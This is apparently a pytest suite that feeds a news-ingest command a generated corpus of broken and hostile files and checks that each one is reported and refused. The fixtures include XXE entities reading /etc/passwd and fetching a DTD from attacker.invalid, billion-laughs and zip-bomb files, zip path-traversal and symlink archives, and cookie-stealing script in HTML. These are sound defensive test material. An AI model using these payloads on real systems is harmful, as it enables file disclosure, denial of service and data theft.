"""A generated corpus of hostile and broken files, mixed with good ones, through `newsroom ingest`.

The ingest runs as a subprocess under a 3 GB address-space limit (RLIMIT_AS) and a socket
guard that fails any connection. It must exit normally; every good file is stored whole;
every bad file gets exactly one report line that names it and says why; nothing of a bad
file reaches the store and no article is stored partially. tests/test_bad_inputs.py checks
the readers one by one; this file checks the whole run, with memory bounded.
"""
from __future__ import annotations

import codecs
import json
import os
import random
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from readers_helpers import (
    EN_BODY,
    FR_BODY,
    NEWS_HTML,
    NITF_XML,
    RSS_XML,
    ZH_BODY,
    ZH_HANT_BODY,
    make_docx,
    make_eml,
    make_encrypted_pdf,
    make_pdf,
    make_symlink_zip,
    make_zip,
    patch_zip_headers,
)

MEMORY_CAP = 3 << 30
# Runs the CLI with an address-space cap and a socket guard that records and refuses every
# connection attempt (the report of attempts is written to argv[1]).
GUARDED_CLI = r"""
import json, resource, socket, sys
resource.setrlimit(resource.RLIMIT_AS, (int(sys.argv[2]), int(sys.argv[2])))
attempts = []
def refuse(self, address, *a, **kw):
    attempts.append(repr(address))
    raise ConnectionRefusedError(f"network refused by the test guard: {address!r}")
socket.socket.connect = refuse
socket.socket.connect_ex = refuse
socket.create_connection = lambda address, *a, **kw: refuse(None, address)
log, sys.argv = sys.argv[1], ["newsroom"] + sys.argv[3:]
try:
    from assistant.cli.main import main
    code = main()
finally:
    with open(log, "w") as fh:
        json.dump(attempts, fh)
sys.exit(code)
"""


def garbage(n: int, seed: int, no_nul: bool = False) -> bytes:
    rng = random.Random(seed)
    data = bytes(rng.randrange(1 if no_nul else 0, 256) for _ in range(n))
    return data


def deep(open_tag: str, close_tag: str, n: int) -> str:
    return open_tag * n + "text" + close_tag * n


PASSWD_XXE = """<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nitf><body><body.content><p>Leaked: &xxe;</p></body.content></body></nitf>"""
PARAM_XXE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<rss><channel><item><title>t</title><description>param entity</description></item></channel></rss>"""
LAUGHS = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n <!ENTITY l0 \"lol\">\n" + "".join(
    f' <!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">\n' for i in range(1, 10)
) + "]>\n<rss><channel><item><title>x</title><description>&l9;</description></item></channel></rss>"
QUADRATIC = (
    '<?xml version="1.0"?>\n<!DOCTYPE nitf [<!ENTITY a "' + "A" * 50_000 + '">]>\n<nitf><body><body.content><p>'
    + "&a;" * 50_000 + "</p></body.content></body></nitf>"
)


def bad_corpus() -> dict[str, tuple[bytes, str]]:
    """name -> (content, a word the one-line reason must contain). At least 30 kinds of bad input."""
    pdf = make_pdf(["Harbour budget approved by the council"])
    utf8_article = (EN_BODY + "\n").encode()
    return {
        # empty, binary, mis-named
        "empty.txt": (b"", "empty"),
        "blank.md": (b"  \n\t\n   \n", "no text"),
        "garbage.txt": (garbage(4096, 1), "binary"),
        "garbage-no-nul.html": (garbage(8192, 2, no_nul=True), "binary"),
        "nul-bytes.txt": (utf8_article[:60] + b"\x00\x00\x01\x00" + utf8_article[60:], "NUL"),
        "pdf-named.html": (pdf, "PDF"),
        "html-named.pdf": (NEWS_HTML.encode(), "not a PDF"),
        "png-named.csv": (b"\x89PNG\r\n\x1a\n" + garbage(300, 3), "PNG"),
        "gzip-named.rss": (b"\x1f\x8b\x08\x00" + garbage(300, 4), "gzip"),
        "elf-named.jsonl": (b"\x7fELF\x02\x01\x01" + garbage(300, 5), "program"),
        "zip-named.txt": (make_zip({"a.txt": utf8_article}), "ZIP"),
        "ole-named.docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + garbage(500, 6), "OLE"),
        # PDF
        "truncated.pdf": (pdf[: len(pdf) // 2], "truncated"),
        "encrypted.pdf": (make_encrypted_pdf(["Embargoed budget figures"]), "encrypted"),
        "scan.pdf": (make_pdf([]), "no text layer"),
        "damaged.pdf": (b"%PDF-1.4\n" + garbage(2000, 7) + b"\n%%EOF\n", "PDF"),
        # XML entity tricks and nesting
        "xxe.nitf": (PASSWD_XXE.encode(), "external entity"),
        "param-entity.rss": (PARAM_XXE.encode(), "entity"),
        "billion-laughs.rss": (LAUGHS.encode(), "entity"),
        "quadratic-blowup.nitf": (QUADRATIC.encode(), "entity"),
        "deep.xml": (("<nitf><body><body.content>" + deep("<p>", "</p>", 50_000) + "</body.content></body></nitf>").encode(), "nested"),
        "deep.html": (("<html><body>" + deep("<div>", "</div>", 100_000) + "</body></html>").encode(), "nested"),
        "not-news.xml": (b'<?xml version="1.0"?><svg><text>hello</text></svg>', "not NITF"),
        "half.nitf": (NITF_XML[: len(NITF_XML) // 2].encode(), "well-formed"),
        "script-only.html": (b"<html><head><script>document.write('x')</script></head><body><script>alert(1)</script></body></html>", "no article text"),
        # ZIP bombs, traversal, links, nesting
        "bomb-ratio.zip": (make_zip({"bomb.txt": b"\0" * 30_000_000}), "zip bomb"),
        "bomb-members.zip": (make_zip({f"m{i}.txt": b"x" for i in range(5001)}, zipfile.ZIP_STORED), "members"),
        "bomb-lying-size.zip": (patch_zip_headers(make_zip({"lie.txt": b"\0" * 30_000_000}), file_size=1000), "damaged"),
        "traversal.zip": (make_zip({"../../escaped.txt": utf8_article}), "traversal"),
        "absolute.zip": (make_zip({"/tmp/escaped-abs.txt": utf8_article}), "absolute"),
        "symlink.zip": (make_symlink_zip("passwd.txt", "/etc/passwd"), "symbolic link"),
        "nested.zip": (make_zip({"a.zip": make_zip({"b.zip": make_zip({"c.txt": utf8_article})})}), "nested"),
        "encrypted-member.zip": (patch_zip_headers(make_zip({"secret.txt": utf8_article}), flag_bits=0x1), "encrypted"),
        "broken.zip": (b"PK\x03\x04" + garbage(200, 8), "ZIP"),
        # Word
        "garbage.docx": (make_zip({"word/document.xml": garbage(3000, 9), "[Content_Types].xml": b"<Types"}), "docx"),
        "no-parts.docx": (make_zip({"hello.txt": b"not a word document"}), "docx"),
        # mail
        "headerless.eml": (b"just some words, no headers at all\n\nbody text", "not an e-mail"),
        "no-body.eml": (
            b"From: press@city.example\nSubject: x\nContent-Type: multipart/mixed; boundary=zzz\n\n--zzz\n"
            b"Content-Type: image/png\nContent-Disposition: attachment; filename=a.png\n\nxxxx\n--zzz--\n",
            "no text body",
        ),
        "not-mbox.mbox": (b"Subject: hi\n\nbody", "not an mbox"),
        "deep-mime.eml": (b"From: a@b.example\nSubject: s\nContent-Type: multipart/mixed; boundary=b0\n\n" + b"".join(
            b"--b%d\nContent-Type: multipart/mixed; boundary=b%d\n\n" % (i, i + 1) for i in range(3000)), "nested too deeply"),
        # CSV / JSON Lines
        "huge-field.csv": (b'id,title,body\n1,Huge,"' + b"A" * (17 << 20) + b'"\n', "field"),
        "ragged.csv": (b"id,title,body\n1,only two\n", "fields"),
        "dup-header.csv": (b"id,body,body\n1,a,b\n", "duplicate"),
        "body-list.jsonl": (b'{"id": "t1", "title": "x", "body": ["not", "text"]}\n', "body"),
        "date-object.jsonl": (('{"id": "t2", "title": "x", "body": "%s", "published": {"y": 2024}}\n' % EN_BODY).encode(), "published"),
        "not-object.jsonl": (b"[1, 2, 3]\n", "JSON object"),
        "deep-json.jsonl": (b"[" * 100_000 + b"\n", "nested too deeply"),
        "infinite-date.jsonl": (('{"id": "t4", "body": "%s", "published": 1e400}\n' % EN_BODY).encode(), "out of range"),
        "broken.jsonl": (b'{"id": "t3", "body": "unterminated\n', "Unterminated"),
        # encodings
        "bad-bom.txt": (codecs.BOM_UTF16_LE + b"\x00\xd8A\x00", "byte-order mark"),
        # size limit: a sparse 2 GB file must be refused from its size alone, never read
        "sparse-2gb.txt": (b"", "limit"),
        "unknown.exe": (b"MZ" + garbage(100, 10), "unsupported"),
    }


def good_corpus(folder: Path) -> dict[str, str]:
    """Write the good files; return name -> a phrase its stored text must contain."""
    files = {
        "good.txt": (EN_BODY.encode(), "12 million euros"),
        "good.html": (NEWS_HTML.encode(), "dredging the old basin"),
        "good.nitf": (NITF_XML.encode(), "Replacement buses"),
        "utf16-no-bom.txt": ((FR_BODY + "\n").encode("utf-16-le"), "rénovation du port"),
        "gb18030.txt": (ZH_BODY.encode("gb18030"), "国内生产总值"),
        "big5.html": (f'<html><head><meta charset="big5"></head><body><article><p>{ZH_HANT_BODY}</p></article></body></html>'.encode("big5"), "颱風"),
        "cp1252.csv": (("id,title,body\ncp-1,Rénovation,\"" + FR_BODY + "\"\n").encode("cp1252"), "approuvé mardi"),
        "mixed-utf8-damaged.txt": (EN_BODY.encode()[:80] + b"\xff\xfe" + "réunion à Genève ".encode() + EN_BODY.encode()[80:], "four hours"),
        "good.eml": (make_eml(), "harbour renovation"),
        "good.pdf": (make_pdf(["The ferry strike ended on Monday after talks."]), "ferry strike"),
        "good.zip": (make_zip({"inner/story.txt": (FR_BODY + " Zip.").encode()}), "dureraient deux ans"),
        "hostile-dtd.rss": (RSS_XML.replace('<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0"?>\n<!DOCTYPE rss SYSTEM "http://attacker.invalid/rss.dtd">').encode(), "four percent"),
        "scripted.html": (b"<html><body><article><p>" + EN_BODY.encode() + b"</p><script>steal(document.cookie)</script>"
                          b"<p onclick=\"evil()\">The mayor said <a href=\"javascript:alert(1)\">more</a> later.</p></article></body></html>", "12 million euros"),
        "deep-json-ld.html": (b'<html><head><script type="application/ld+json">' + b"[" * 50_000 + b"</script></head><body><article><p>"
                              + EN_BODY.encode() + b"</p></article></body></html>", "four hours"),
        "one-huge-line.txt": (("harbour " * 4000).encode() + b"x" * 100_000, "harbour harbour"),
    }
    for name, (data, _) in files.items():
        (folder / name).write_bytes(data)
    make_docx(folder / "good.docx", "Budget vote", [EN_BODY])
    out = {name: phrase for name, (_, phrase) in files.items()}
    out["good.docx"] = "debate that lasted"
    return out


def _open_store(data_dir: Path):
    from assistant.service import Assistant
    from assistant.settings import load_settings

    return Assistant(load_settings(env={}, data_dir=str(data_dir), embedders="minilm"))


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "in"
    folder.mkdir()
    bad = bad_corpus()
    for name, (data, _) in bad.items():
        (folder / name).write_bytes(data)
    with open(folder / "sparse-2gb.txt", "wb") as fh:
        fh.truncate(2 << 30)  # sparse: 2 GB by size, no blocks on disk
    good = good_corpus(folder)
    attempts_log = root / "connections.json"
    # Parsing in this process: the socket guard and the memory cap then cover the parsers on any machine.
    env = {**os.environ, "NEWSROOM_EMBEDDERS": "minilm", "NEWSROOM_DATA_DIR": str(root / "data"), "NEWSROOM_INGEST_WORKERS": "0"}
    proc = subprocess.run(
        [sys.executable, "-c", GUARDED_CLI, str(attempts_log), str(MEMORY_CAP), "ingest", str(folder), str(folder / "unknown.exe"), "--json"],
        capture_output=True, text=True, env=env, timeout=280, cwd=root,
    )
    return root, folder, bad, good, proc, json.loads(attempts_log.read_text())


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_hostile_corpus_is_reported_file_by_file_and_the_run_goes_on(hostile_run):
    root, folder, bad, good, proc, attempts = hostile_run
    assert proc.returncode == 0, proc.stderr[-3000:]
    report = json.loads(proc.stdout)
    assert len(bad) >= 30
    lines: dict[str, list[dict]] = {}
    for entry in report["failed"]:
        named = [n for n in list(bad) + list(good) if entry["path"] == str(folder / n) or entry["path"].startswith(f"{folder / n}!")
                 or entry["path"].startswith(f"{folder / n}:") or entry["path"].startswith(f"{folder / n}#")]
        assert len(named) == 1, entry
        lines.setdefault(named[0], []).append(entry)
    # Exactly one line per bad file, naming it, one line of text, with the expected reason.
    for name, (_, word) in bad.items():
        got = lines.get(name, [])
        assert len(got) == 1, (name, got)
        error = got[0]["error"]
        assert error and "\n" not in error and word.lower() in error.lower(), (name, error)
        assert str(folder) not in error, error
    # Good files produce no failure line (the feed's empty third item aside).
    assert set(lines) - set(bad) <= {"hostile-dtd.rss"}
    assert [e["path"] for e in lines.get("hostile-dtd.rss", [])] == [f"{folder / 'hostile-dtd.rss'}#item3"]
    assert attempts == []  # no parser tried to fetch a DTD or entity, nothing phoned home


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_hostile_corpus_leaves_only_whole_good_articles(hostile_run):
    from assistant.store.interface import SearchFilter

    root, folder, bad, good, proc, _ = hostile_run
    assert proc.returncode == 0, proc.stderr[-3000:]
    assistant = _open_store(root / "data")
    try:
        payloads = list(assistant.store.scroll(SearchFilter(), ["article_id", "chunk_index", "n_chunks", "text", "source_path"]))
    finally:
        assistant.close()
    by_article: dict[str, list[dict]] = {}
    for p in payloads:
        by_article.setdefault(p["article_id"], []).append(p)
    files = set()
    for article_id, chunks in by_article.items():
        # No partial article: chunk numbers 0..n-1, each once.
        assert sorted(c["chunk_index"] for c in chunks) == list(range(chunks[0]["n_chunks"])), article_id
        files.add(chunks[0]["source_path"].split("!", 1)[0])
    assert files == {str(folder / name) for name in good}
    text_by_file: dict[str, str] = {}
    for p in payloads:
        text_by_file[p["source_path"].split("!", 1)[0]] = text_by_file.get(p["source_path"].split("!", 1)[0], "") + "\n" + p["text"]
    for name, phrase in good.items():
        assert phrase in text_by_file[str(folder / name)], name
    everything = "\n".join(text_by_file.values())
    assert "root:x:0:0" not in everything and "steal(" not in everything and "alert(" not in everything
    assert max(len(p["text"]) for p in payloads) <= 320 * 24
    assert not list(root.rglob("escaped*")) and not list(Path("/tmp").glob("escaped-abs*"))
